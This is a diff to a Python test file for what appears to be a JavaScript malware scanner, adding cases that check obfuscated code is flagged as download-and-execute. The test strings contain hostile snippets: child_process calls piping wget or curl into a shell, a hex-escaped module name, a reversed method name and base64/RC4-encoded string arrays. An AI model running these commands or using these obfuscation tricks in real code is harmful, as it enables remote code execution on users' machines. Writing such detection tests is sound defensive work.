@@ -54,6 +54,10 @@ def test_child_process_through_aliases_destructuring_and_imports() -> None:
         f"const cp = require('child_' + 'process'); cp.exec(`{CURL_SH}`);",
         f"async function f() {{ const cp = await import('child_process'); cp.exec('{CURL_SH}'); }}",
         f"const {{ spawn }} = require('child_process'); spawn('sh', ['-c', '{CURL_SH}']);",
+        ("require('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73').exec('wget -qO- "
+         "http://x.invalid/a | bash');"),
+        "const r = require; const cmd = ['curl', process.argv[2], '|', 'sh'].join(' '); r('child_process').exec(cmd);",
+        f"require('child_process')['cexe'.split('').reverse().join('')]('{CURL_SH}');",
     ):
         found = rules(code)
         assert found.get("download-and-execute") is Severity.CRITICAL, code
@@ -509,3 +513,27 @@ main().catch(() => {});
     assert rules(library)["secret-exfiltration"] is Severity.MEDIUM
     callback = code.replace("main().catch(() => {});", "process.on('exit', () => main());")
     assert rules(callback)["secret-exfiltration"] is Severity.MEDIUM  # a callback defined, not called, at load
+
+
+def test_obfuscator_io_base64_and_rc4_string_arrays() -> None:
+    from chainwarden.analyze.code.javascript import _rc4
+
+    words = ["child_process", "exec", CURL_SH]
+    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/="
+
+    def encode(text: str) -> str:
+        return base64.b64encode(text.encode("utf-8")).decode().rstrip("=").swapcase()
+
+    for variant, items, call in (
+        ("", [encode(w) for w in words], "_0xd(0x{i})"),
+        ("charCodeAt(_0xj) % 0x100", [encode(_rc4("k3y" + str(i), w)) for i, w in enumerate(words)], "_0xd(0x{i}, 'k3y{i}')"),
+    ):
+        array = ", ".join(f"'{x}'" for x in items)
+        uses = [call.format(i=i) for i in range(3)]
+        code = f"""
+function _0xa1() {{ const _0xb = [{array}]; _0xa1 = function () {{ return _0xb; }}; return _0xa1(); }}
+function _0xd(_0xi, _0xk) {{ _0xi = _0xi - 0x0; const _0xs = _0xa1(); const _0xc = '{alphabet}';
+  let _0xv = _0xs[_0xi]; /* {variant} */ return _0xv; }}
+require({uses[0]})[{uses[1]}]({uses[2]});
+"""
+        assert rules(code).get("download-and-execute") is Severity.CRITICAL, variant
